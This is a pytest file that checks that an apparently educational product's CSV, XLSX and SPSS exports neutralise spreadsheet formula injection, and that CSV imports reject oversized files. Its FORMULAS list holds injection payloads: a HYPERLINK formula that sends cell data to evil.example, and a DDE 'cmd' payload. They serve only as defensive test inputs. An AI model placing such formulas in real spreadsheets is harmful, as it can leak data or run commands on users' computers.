"""Every CSV, XLSX and SPSS file the product writes is inert: text a person typed never runs as a formula."""
import csv
import io

import pytest
import yaml
from openpyxl import load_workbook

from maydan import roles, spreadsheets
from maydan.cohort import exports
from maydan.grading import bulk, markings, services as grading
from maydan.models import Person, Placement
from maydan.simulation import services as sim

from .test_cohort_exports import _read_sav, export, logged  # noqa: F401 (a fixture)
from .test_grading_evaluations import answers, both_submit
from .test_grading_markings import FULL, entry, walk_to_release  # noqa: F401 (a fixture)
from .test_simulation_services import mini_source

# What OWASP lists, and their kin: each would run (or reach a shell) if a spreadsheet took it as a formula.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
            "\t=1+1", "\r=1+1", "=1+1", "+1", "-1", "@x"]


def csv_cells(text):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_inert_csv(text, typed):
    cells = csv_cells(text)
    for value in typed:
        assert value not in cells, f"{value!r} left as it was typed"
        assert "'" + value in cells, f"{value!r} not found neutralised"
    assert not [c for c in cells if c.startswith(spreadsheets.FORMULA_STARTS)], "a cell would run"


def assert_inert_xlsx(data, typed):
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
    values = {c.value for c in cells if c.data_type == "s"}
    for value in typed:
        assert value.lstrip("\t\r") in {v.lstrip("\t\r") for v in values}, f"{value!r} is not kept as text"


# --- the writer itself -------------------------------------------------------------------------------


def test_the_writer_quotes_formula_text_and_leaves_numbers_alone():
    rows = [["text", "number"], *([f, -2] for f in FORMULAS), ["plain", -2.5], ["", 0], [None, 3]]
    text = spreadsheets.csv_text(rows)
    read = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in read[1:len(FORMULAS) + 1]] == ["'" + f for f in FORMULAS]
    assert [r[1] for r in read[1:len(FORMULAS) + 1]] == ["-2"] * len(FORMULAS)  # numbers stay numbers
    assert read[-3:] == [["plain", "-2.5"], ["", "0"], ["", "3"]]
    assert [spreadsheets.restored(r[0]) for r in read[1:len(FORMULAS) + 1]] == FORMULAS
    assert spreadsheets.restored("'quoted on purpose") == "'quoted on purpose"


def test_xlsx_cells_are_text_never_formulas_and_numbers_stay_numbers():
    rows = [["text", "number"], *([f, -2] for f in FORMULAS), ["bad \x00\x07 control", -2.5]]
    sheet = load_workbook(io.BytesIO(b"".join(spreadsheets.xlsx_chunks("t", rows)))).active
    texts = [sheet.cell(row=n, column=1) for n in range(2, len(FORMULAS) + 2)]
    assert [c.data_type for c in texts] == ["s"] * len(FORMULAS)
    assert [c.value for c in texts] == FORMULAS
    numbers = [sheet.cell(row=n, column=2) for n in range(2, len(FORMULAS) + 3)]
    assert {c.data_type for c in numbers} == {"n"} and numbers[0].value == -2 and numbers[-1].value == -2.5
    assert sheet.cell(row=len(FORMULAS) + 2, column=1).value == "bad  control"


def test_spss_labels_are_inert_and_fit():
    import polars

    frame = polars.DataFrame({"v": polars.Series("v", [1], dtype=polars.Int64)})
    data = b"".join(spreadsheets.sav_chunks(frame, [None], [[1], [2]], file_label="=cmd",
                                            column_labels={"v": "@SUM(1) " + "ع" * 200},
                                            value_labels={"v": {1: "+1", 2: "-2"}}, measures={"v": "nominal"}))
    values, meta = _read_sav(data)
    assert values["v"] == [1, 2] and meta.file_label == "'=cmd"
    assert meta.column_labels[0].startswith("'@SUM(1)") and len(meta.column_labels[0].encode()) <= 255
    assert meta.variable_value_labels["v"] == {1: "'+1", 2: "'-2"}


# --- every export of the product ------------------------------------------------------------------


@pytest.fixture
def typed(logged):  # noqa: F811
    """A placement whose agency and student name were typed as formulas."""
    sara = logged.sara
    sara.agency = FORMULAS[0]
    sara.save()
    Person.objects.filter(pk=sara.student.pk).update(name=FORMULAS[1])
    both_submit(logged, sara, academic=answers(3))
    grading.release(logged.academic, sara.pk, "midterm")
    return logged


@pytest.mark.parametrize("table", list(exports.TABLES))
def test_cohort_exports_in_csv_and_xlsx(typed, table):
    _n, _t, data = export(typed.coordinator, table, "csv", identified=True)
    text = data.decode("utf-8-sig")
    assert_inert_csv(text, [FORMULAS[1]])
    _n, _t, data = export(typed.coordinator, table, "xlsx", identified=True)
    assert_inert_xlsx(data, [FORMULAS[1]])


def test_cohort_logs_export_keeps_the_typed_agency_inert(typed):
    _n, _t, data = export(typed.coordinator, "logs", "csv")
    assert_inert_csv(data.decode("utf-8-sig"), [FORMULAS[0]])
    _n, _t, data = export(typed.coordinator, "logs", "xlsx", language="ar")
    assert_inert_xlsx(data, [FORMULAS[0]])


def test_cohort_spss_text_is_inert(typed):
    _n, _t, data = export(typed.coordinator, "logs", "sav", identified=True)
    values, _meta = _read_sav(data)
    cells = [str(v) for column in values.values() for v in column]
    assert "'" + FORMULAS[1] in cells and FORMULAS[1] not in cells


def test_grading_csv_export_of_comments_typed_as_formulas(cohort):
    placement = cohort.student.person.placements.get()
    comments = dict(zip(("comment_overall", "comment_1", "comment_2", "comment_3"), FORMULAS))
    grading.save_sheet(cohort.agency, placement.pk, "midterm", answers(4, **comments), submit=True)
    text = bulk.export_csv(cohort.coordinator, "midterm")
    assert_inert_csv(text, [comments["comment_overall"]])


def test_rubric_grades_export_of_an_override_reason_typed_as_a_formula(cohort, entry):  # noqa: F811
    walk_to_release(cohort.academic, entry)
    markings.override(cohort.academic, entry.pk, "reflection", "0.9", "@SUM(1)+cmd")
    text = bulk.export_markings_csv(cohort.coordinator)
    assert_inert_csv(text, ["@SUM(1)+cmd"])
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["override"] == "0.9" and row["score"] == "0.8"  # numbers as numbers


def test_simulation_analytics_csv_of_a_scenario_whose_texts_are_formulas(cohort):
    author = cohort.enter("w1", roles.AUTHOR, "Author")
    data = yaml.safe_load(mini_source())
    data["nodes"][0]["text"]["en"] = FORMULAS[3]
    data["nodes"][0]["choices"][0]["text"]["en"] = FORMULAS[2]
    sim.save_scenario(author, yaml.safe_dump(data, allow_unicode=True))
    text = sim.analytics_csv(cohort.academic, "mini", "en")
    assert_inert_csv(text, [FORMULAS[3], FORMULAS[2]])


# --- and the CSV files people bring in ----------------------------------------------------------------

HUGE_FIELD = 'student_id,agency\ns1,"' + "x" * 200_000 + '"\n'
MANY_ROWS = "student_id,agency\n" + "s1,Hope\n" * 6000


@pytest.mark.parametrize("text, words", [(HUGE_FIELD, "too long"), (MANY_ROWS, "too many rows"),
                                         ("student_id,agency\n" + "s1,Hope\n" + "\x00" * 10, "")],
                         ids=["huge-field", "many-rows", "nul"])
def test_csv_imports_refuse_oversized_files_with_a_message_not_an_error(cohort, text, words):
    from django.utils import translation

    from maydan.cohort import placements
    from maydan.errors import Invalid, Refused
    from maydan.sessions import attendance
    from maydan.sessions.models import Session

    with translation.override("en"):
        try:
            placements.import_csv(cohort.coordinator, text)
        except Invalid as refused:
            assert words in str(refused.message)
        else:
            assert not words, "a refusal was expected"
        applied, results = bulk.import_csv(cohort.coordinator, text.replace("student_id,agency", "student,side"))
        assert not applied and (not words or words in results[0]["message"])
        session = Session.objects.create(course=cohort.course, uid="s@x", title="S", start_date="2025-03-04",
                                         start_time="10:00", minutes=60)
        with pytest.raises(Refused) as refused:
            attendance.import_attendance(cohort.academic, session.pk, text.replace("student_id,agency", "Name,Join time"))
        assert refused.value.status == 400 and words in str(refused.value.message)
